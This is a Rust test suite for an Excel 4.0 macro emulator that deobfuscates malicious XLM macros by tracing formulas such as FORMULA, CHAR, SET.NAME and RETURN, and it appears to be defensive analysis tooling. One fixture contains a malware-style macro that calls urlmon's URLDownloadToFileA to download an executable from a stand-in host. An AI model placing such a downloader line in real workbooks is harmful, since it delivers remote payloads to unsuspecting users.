use pretty_assertions::assert_eq;
use xlm_engine::{Emulator, EmulatorConfig, EvalStatus, TraceStep, UnknownValueRequest};
use xlm_model::{CellLocation, FixtureSheet, FixtureWorkbook, LocalAddress};

fn macro_workbook(cells: &[(&str, &str)]) -> FixtureWorkbook {
    let sheet = cells
        .iter()
        .fold(FixtureSheet::macrosheet("Macro1"), |sheet, (a1, formula)| {
            sheet.formula(a1, *formula)
        });
    FixtureWorkbook::new("sample.xlsm")
        .sheet(sheet)
        .defined_name("auto_open", "Macro1!$A$1")
}

fn cell_value(emulator: &Emulator<'_>, a1: &str) -> Option<String> {
    let workbook = emulator.workbook();
    let sheet = workbook.sheet_id("Macro1")?;
    let address = LocalAddress::from_a1(a1).ok()?;
    workbook.cell(CellLocation::new(sheet, address))?.value.clone()
}

fn summary(steps: &[TraceStep]) -> Vec<(String, EvalStatus, String)> {
    steps
        .iter()
        .map(|s| (s.address.to_a1(), s.status, s.text.clone()))
        .collect()
}

#[test]
fn formula_writes_into_the_grid() {
    let fixture = macro_workbook(&[("A1", r#"=FORMULA("bar",B1)"#)]);
    let mut emulator = Emulator::new(&fixture);
    let steps: Vec<_> = emulator.deobfuscate().collect();

    assert_eq!(
        summary(&steps),
        vec![(
            "A1".to_string(),
            EvalStatus::FullEvaluation,
            r#"FORMULA("bar",B1)"#.to_string()
        )]
    );
    assert_eq!(cell_value(&emulator, "B1").as_deref(), Some("bar"));
}

#[test]
fn char_resolves_to_its_literal() {
    let fixture = macro_workbook(&[("A1", "=CHAR(65)")]);
    let steps: Vec<_> = Emulator::new(&fixture).deobfuscate().collect();
    assert_eq!(
        summary(&steps),
        vec![("A1".to_string(), EvalStatus::FullEvaluation, "A".to_string())]
    );
}

#[test]
fn out_of_range_char_keeps_the_source_text() {
    let fixture = macro_workbook(&[("A1", "=CHAR(9999)"), ("A2", "=HALT()")]);
    let mut emulator = Emulator::new(&fixture);
    let steps: Vec<_> = emulator.deobfuscate().collect();

    // Errors end the path: A2 is never reached.
    assert_eq!(
        summary(&steps),
        vec![("A1".to_string(), EvalStatus::Error, "CHAR(9999)".to_string())]
    );
    assert_eq!(emulator.char_error_count(), 1);
}

#[test]
fn dynamic_formulas_are_executed_after_being_written() {
    let fixture = macro_workbook(&[
        ("A1", r#"=FORMULA("=CHAR(72)&CHAR(105)",A2)"#),
        ("A3", "=HALT()"),
    ]);
    let steps: Vec<_> = Emulator::new(&fixture).deobfuscate().collect();

    let texts: Vec<_> = steps.iter().map(|s| s.text.as_str()).collect();
    assert_eq!(
        texts,
        vec![r#"FORMULA("=CHAR(72)&CHAR(105)",A2)"#, r#""Hi""#, "HALT()"]
    );
    assert_eq!(steps[2].status, EvalStatus::End);
}

#[test]
fn start_point_is_used_without_auto_open() {
    let fixture = FixtureWorkbook::new("sample.xlsm").sheet(
        FixtureSheet::macrosheet("Macro1")
            .formula("C5", "=CHAR(66)")
            .formula("C6", "=HALT()"),
    );
    let config = EmulatorConfig::default().with_start_point("Macro1!C5");
    let steps: Vec<_> = Emulator::new(&fixture)
        .with_config(config)
        .deobfuscate()
        .collect();
    assert_eq!(
        steps.iter().map(|s| s.address.to_a1()).collect::<Vec<_>>(),
        vec!["C5", "C6"]
    );
}

#[test]
fn missing_entry_point_yields_an_empty_trace() {
    let fixture = FixtureWorkbook::new("sample.xlsm")
        .sheet(FixtureSheet::macrosheet("Macro1").formula("A1", "=HALT()"));
    assert_eq!(Emulator::new(&fixture).deobfuscate().count(), 0);
}

#[test]
fn subroutine_call_returns_to_the_caller() {
    let fixture = FixtureWorkbook::new("sample.xlsm")
        .sheet(
            FixtureSheet::macrosheet("Macro1")
                .formula("A1", "=worker()")
                .formula("A2", r#"=FORMULA("done",B1)"#)
                .formula("E1", "=RETURN(42)"),
        )
        .defined_name("auto_open", "Macro1!$A$1")
        .defined_name("worker", "Macro1!$E$1");
    let mut emulator = Emulator::new(&fixture);
    let steps: Vec<_> = emulator.deobfuscate().collect();

    assert_eq!(
        steps.iter().map(|s| s.address.to_a1()).collect::<Vec<_>>(),
        vec!["A1", "E1", "A2"]
    );
    assert_eq!(steps[1].text, "RETURN(42)");
    assert_eq!(cell_value(&emulator, "A1").as_deref(), Some("42"));
    assert_eq!(cell_value(&emulator, "B1").as_deref(), Some("done"));
}

#[test]
fn output_level_three_reports_only_strings_of_important_calls() {
    let fixture = macro_workbook(&[
        (
            "A1",
            r#"=CALL("urlmon","URLDownloadToFileA","JJCCJJ",0,"http://example.test/x.exe","c:\x.exe",0,0)"#,
        ),
        ("A2", "=CHAR(65)"),
        ("A3", "=HALT()"),
    ]);
    let config = EmulatorConfig::default().with_output_level(3);
    let steps: Vec<_> = Emulator::new(&fixture)
        .with_config(config)
        .deobfuscate()
        .collect();

    assert_eq!(steps.len(), 1);
    assert_eq!(
        steps[0].text,
        "urlmon\nURLDownloadToFileA\nJJCCJJ\nhttp://example.test/x.exe\nc:\\x.exe"
    );
}

#[test]
fn unresolved_writes_stay_partial_without_a_shell() {
    let fixture = macro_workbook(&[
        ("A1", "=FORMULA(UNKNOWN.FN(),B1)"),
        ("A2", r#"=FORMULA(B1&"!",C1)"#),
    ]);
    let steps: Vec<_> = Emulator::new(&fixture).deobfuscate().collect();

    assert_eq!(
        summary(&steps),
        vec![
            (
                "A1".to_string(),
                EvalStatus::PartialEvaluation,
                "FORMULA(UNKNOWN.FN(),B1)".to_string()
            ),
            (
                "A2".to_string(),
                EvalStatus::PartialEvaluation,
                r#"FORMULA(B1&"!",C1)"#.to_string()
            ),
        ]
    );
}

#[test]
fn interactive_shell_fills_unknown_cells() {
    let fixture = macro_workbook(&[
        ("A1", "=FORMULA(UNKNOWN.FN(),B1)"),
        ("A2", r#"=FORMULA(B1&"!",C1)"#),
    ]);
    let shell = |request: &UnknownValueRequest| {
        assert_eq!(request.unknown_cell, "Macro1!B1");
        assert_eq!(request.current_cell, "Macro1!A2");
        Some("abc".to_string())
    };
    let mut emulator = Emulator::new(&fixture)
        .with_config(EmulatorConfig::default().with_interactive(true))
        .with_shell(Box::new(shell));
    let steps: Vec<_> = emulator.deobfuscate().collect();

    assert_eq!(steps[1].status, EvalStatus::FullEvaluation);
    assert_eq!(steps[1].text, r#"FORMULA("abc!",C1)"#);
    assert_eq!(cell_value(&emulator, "B1").as_deref(), Some("abc"));
    assert_eq!(cell_value(&emulator, "C1").as_deref(), Some("abc!"));
}

#[test]
fn set_name_binds_values_for_later_formulas() {
    let fixture = macro_workbook(&[
        ("A1", r#"=SET.NAME("key",CHAR(88)&"y")"#),
        ("A2", "=FORMULA(key,B1)"),
    ]);
    let mut emulator = Emulator::new(&fixture);
    let steps: Vec<_> = emulator.deobfuscate().collect();

    assert_eq!(steps.len(), 2);
    assert_eq!(cell_value(&emulator, "B1").as_deref(), Some("Xy"));
    assert!(emulator.defined_names().contains("KEY"));
}

#[test]
fn each_run_starts_from_the_loaded_workbook() {
    let fixture = macro_workbook(&[("A1", r#"=FORMULA(B1&"x",B1)"#)]);
    let mut emulator = Emulator::new(&fixture);
    let first: Vec<_> = emulator.deobfuscate().collect();
    let second: Vec<_> = emulator.deobfuscate().collect();
    assert_eq!(first, second);
    assert_eq!(cell_value(&emulator, "B1").as_deref(), Some("x"));
}

#[test]
fn oversized_destination_ranges_are_not_written() {
    let fixture = macro_workbook(&[
        ("A1", r#"=FORMULA("x",B1:XFD2000)"#),
        ("A2", r#"=FORMULA("y",C1)"#),
        ("A3", "=HALT()"),
    ]);
    let mut emulator = Emulator::new(&fixture);
    let steps: Vec<_> = emulator.deobfuscate().collect();

    assert_eq!(steps.len(), 3);
    assert_eq!(steps[0].status, EvalStatus::PartialEvaluation);
    assert_eq!(cell_value(&emulator, "B1"), None);
    assert_eq!(cell_value(&emulator, "C1").as_deref(), Some("y"));
}

#[test]
fn destination_limit_is_configurable() {
    let fixture = macro_workbook(&[
        ("A1", r#"=FORMULA("x",B1:C2)"#),
        ("A2", r#"=FORMULA("z",B1:C3)"#),
        ("A3", "=HALT()"),
    ]);
    let config = EmulatorConfig::default().with_max_range_cells(4);
    let mut emulator = Emulator::new(&fixture).with_config(config);
    let steps: Vec<_> = emulator.deobfuscate().collect();

    assert_eq!(steps[0].status, EvalStatus::FullEvaluation);
    assert_eq!(steps[1].status, EvalStatus::PartialEvaluation);
    assert_eq!(cell_value(&emulator, "C2").as_deref(), Some("x"));
    assert_eq!(cell_value(&emulator, "B1").as_deref(), Some("x"));
    assert_eq!(cell_value(&emulator, "C3"), None);
}

#[test]
fn counta_over_a_whole_sheet_counts_populated_cells() {
    let fixture = FixtureWorkbook::new("sample.xlsm")
        .sheet(
            FixtureSheet::macrosheet("Macro1")
                .formula("A1", "=COUNTA(B1:XFD1048576)")
                .formula("A2", "=HALT()")
                .value("B1", "x")
                .value("C5", "y")
                .value("D9", ""),
        )
        .defined_name("auto_open", "Macro1!$A$1");
    let mut emulator = Emulator::new(&fixture);
    let steps: Vec<_> = emulator.deobfuscate().collect();

    assert_eq!(steps[0].status, EvalStatus::FullEvaluation);
    assert_eq!(cell_value(&emulator, "A1").as_deref(), Some("2"));
}

#[test]
fn address_rejects_columns_outside_the_sheet() {
    let fixture = macro_workbook(&[("A1", "=ADDRESS(5,3)"), ("A2", "=ADDRESS(5,0)")]);
    let mut emulator = Emulator::new(&fixture);
    let steps: Vec<_> = emulator.deobfuscate().collect();

    assert_eq!(cell_value(&emulator, "A1").as_deref(), Some("Macro1!$C$5"));
    assert_eq!(steps.len(), 2);
    assert_eq!(steps[1].status, EvalStatus::Error);
    assert_eq!(steps[1].text, "ADDRESS(5,0)");
}
